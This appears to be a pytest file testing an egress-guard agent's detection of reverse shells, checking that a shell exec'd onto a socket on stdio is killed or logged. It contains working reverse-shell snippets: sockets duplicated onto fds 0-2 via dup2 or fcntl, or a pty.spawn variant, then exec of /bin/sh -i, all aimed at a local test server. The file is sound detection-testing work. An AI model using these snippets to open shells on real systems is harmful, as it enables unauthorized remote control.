# SPDX-License-Identifier: Apache-2.0
"""A socket on stdin/stdout/stderr however it got there (issue 17, point 4):
fcntl(F_DUPFD), a socket made on a freed low descriptor, dup2 before the
connect, UDP, a plain dup2 (the dup2/dup3 hook at the call is opt-in: `run
--syscall-hook`), a shell behind a pty whose parent holds the socket. The
exec of the shell sees them all, by its own fds 0-2 or its parent's: under reverseShell: kill the shell dies before its first instruction,
under log it runs and is reported (dialect stdio-socket-at-exec)."""
from __future__ import annotations

import signal
import subprocess
import sys

import pytest

from .agentproc import GuardedCgroup
from .netfixtures import RecordingServer, require_tools

SHELL_PROBE = b"echo EGMARK$((6*7))\n"
SHELL_ANSWER = b"EGMARK42"

#: the shell behind a pty: the socket is on its parent's stdio, not its own
PTY = "pty.spawn behind a pty"

BEHIND_A_PTY = r"""
import os, pty, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn(["/bin/sh", "-i"])   # the shell gets a pty; the socket stays with its parent
"""

# Each: put a connected socket on fd 0-2 some way, then exec /bin/sh -i.
WAYS = {
    "fcntl F_DUPFD": r"""
import fcntl, os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.close(fd)
    fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, fd)
os.execv("/bin/sh", ["sh", "-i"])
""",
    "socket made on a freed fd": r"""
import os, socket, sys
os.close(0)
s = socket.socket()            # takes fd 0
s.set_inheritable(True)        # Python makes sockets close-on-exec; an attacker would not
s.connect(("127.0.0.1", int(sys.argv[1])))
os.execv("/bin/sh", ["sh", "-i"])
""",
    "dup2 (no hook at the call: found at the exec)": r"""
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
""",
    "dup2 before connect": r"""
import os, socket, sys
s = socket.socket()
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
s.connect(("127.0.0.1", int(sys.argv[1])))
os.execv("/bin/sh", ["sh", "-i"])
""",
}


def policy_text(action: str) -> str:
    return f"""apiVersion: egress-guard/v1
kind: EgressPolicy
metadata:
  name: stdio-exec-{action}
spec:
  defaultAction: allow
  detections:
    reverseShell: {action}
"""


@pytest.fixture(params=["kill", "log"], scope="module")
def guard(request, tmp_path_factory):
    require_tools("sh")
    policy = tmp_path_factory.mktemp("stdio-exec") / "policy.yaml"
    policy.write_text(policy_text(request.param))
    guarded = GuardedCgroup(policy, "egress-guard-stdio-exec")
    try:
        yield request.param, guarded
    finally:
        guarded.close()


@pytest.mark.parametrize("guard", ["kill"], indirect=True)
def test_a_shell_behind_a_pty_is_found_by_its_parents_stdio(guard, tmp_path):
    """The parent's stdio is read for a program the exec entry holds (a
    shell or interpreter under an enforcing reverseShell)."""
    test_a_shell_started_on_a_socket_is_found_at_exec(guard, PTY, tmp_path)


@pytest.mark.parametrize("way", sorted(WAYS))
def test_a_shell_started_on_a_socket_is_found_at_exec(guard, way, tmp_path):
    action, guarded = guard
    program = tmp_path / "helper.py"
    program.write_text(WAYS.get(way, BEHIND_A_PTY))
    with RecordingServer(greeting=SHELL_PROBE) as server:
        proc = guarded.cg.popen(["/usr/bin/python3", str(program), str(server.port)],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)})
        try:
            event = guarded.agent.wait_for(
                lambda e: e.get("kind") == "detection"
                and proc.pid in (e["process"]["pid"], e["process"]["ppid"])
                and e["detection"]["dialect"] == "stdio-socket-at-exec", timeout=10)
            if way == PTY:
                # the shell was the child; its parent ends when it does
                assert event["process"]["ppid"] == proc.pid
                proc.wait(timeout=10)
            elif action == "kill":
                assert proc.wait(timeout=10) == -signal.SIGKILL
            else:
                # the shell runs: it read the greeting from the socket on its stdin
                server.wait_for_connections(1)
                try:
                    proc.wait(timeout=2)
                except subprocess.TimeoutExpired:
                    pass
                assert proc.returncode != -signal.SIGKILL
        finally:
            if proc.poll() is None:
                proc.kill()
            proc.wait(timeout=10)
        received = server.received()
    assert event["action"] == action
    assert event["detection"]["evidence"]["remote"]["port"] == server.port
    argv = event["process"]["argv"]
    assert [argv[0].rsplit("/", 1)[-1], *argv[1:2]] == ["sh", "-i"]
    if action == "kill":
        assert SHELL_ANSWER not in received
